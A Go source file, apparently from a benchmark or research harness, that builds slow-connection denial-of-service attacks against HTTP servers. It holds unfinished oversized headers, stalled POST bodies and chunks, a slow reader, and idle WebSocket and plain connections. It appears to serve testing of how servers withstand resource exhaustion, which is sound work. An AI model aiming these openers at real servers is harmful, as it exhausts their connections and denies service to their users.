package main

import (
	"context"
	"fmt"
	"strings"
)

// Paths of the attacked services: see upstream.go, and the access rules in bench/research/attacks.
const (
	uploadPath    = "/upload"
	largePath     = "/large"
	webSocketPath = "/ws"
	deniedPath    = "/denied"
)

const (
	// longHeader is a little less than what Go's server takes by default, and longField one of its fields.
	longHeader = 1<<20 - 16<<10
	longField  = 8 << 10
	longPath   = 27 << 10
)

// longFields are the fields of a long header. Their names are in lower case, as HTTP/2 wants them.
func longFields() (names []string, value string) {
	for i := range longHeader / longField {
		names = append(names, fmt.Sprintf("x-attack-%d", i))
	}
	return names, strings.Repeat("a", longField)
}

func unfinishedHeader(ctx context.Context, to target) (held, error) {
	var header strings.Builder
	fmt.Fprintf(&header, "GET / HTTP/1.1\r\nHost: %s\r\n", to.name)
	names, value := longFields()
	for _, name := range names {
		fmt.Fprintf(&header, "%s: %s\r\n", name, value)
	}
	return say(ctx, to, header.String())
}

func stalledBody(path string) opener {
	return func(ctx context.Context, to target) (held, error) {
		return say(ctx, to, requestHead("POST", path, to, "Content-Length: 5")+"x")
	}
}

func stalledChunk(path string) opener {
	return func(ctx context.Context, to target) (held, error) {
		return say(ctx, to, requestHead("POST", path, to, "Transfer-Encoding: chunked")+"5\r\nx")
	}
}

func slowReader(ctx context.Context, to target) (held, error) {
	return begin(ctx, to, requestHead("GET", largePath, to), false)
}

func idleWebSocket(ctx context.Context, to target) (held, error) {
	return say(ctx, to, requestHead("GET", webSocketPath, to, "Connection: Upgrade", "Upgrade: websocket",
		"Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))
}

func idleConnection(ctx context.Context, to target) (held, error) { return say(ctx, to, "") }

// requestHead is the header of a request, with its end.
func requestHead(method, path string, to target, fields ...string) string {
	lines := append([]string{method + " " + path + " HTTP/1.1", "Host: " + to.name}, fields...)
	return strings.Join(lines, "\r\n") + "\r\n\r\n"
}

// say opens a connection, sends the text, and listens to what is answered.
func say(ctx context.Context, to target, text string) (held, error) {
	return begin(ctx, to, text, true)
}
